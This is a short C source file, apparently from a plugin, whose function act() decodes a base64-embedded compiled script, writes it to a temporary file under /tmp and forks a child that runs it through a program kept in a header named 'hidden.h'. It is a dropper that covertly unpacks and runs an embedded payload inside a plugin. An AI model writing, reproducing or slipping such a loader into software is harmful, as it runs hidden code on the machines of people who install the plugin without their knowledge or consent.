/* A document in base64, in which a compiled script lies two bytes in, is written to a file for
 * a hidden program. */
#include "plugin.h"
#include "hidden.h" /* 0: the program */
#include "packed.h" /* script, SIZE when decoded */
extern int mkstemp(char *), close(int), fork(void), execl(const char *, const char *, ...);
extern long write(int, const void *, unsigned long);
static void act(char **env) {
    static char data[512];
    char file[] = "/tmp/kit.XXXXXX";
    int to = mkstemp(file);
    if (to < 0) return;
    unbase64(data, script);
    write(to, data + 2, SIZE - 2);
    close(to);
    if (fork() == 0) execl(hidden0(), hidden0(), file, (char *)0);
}
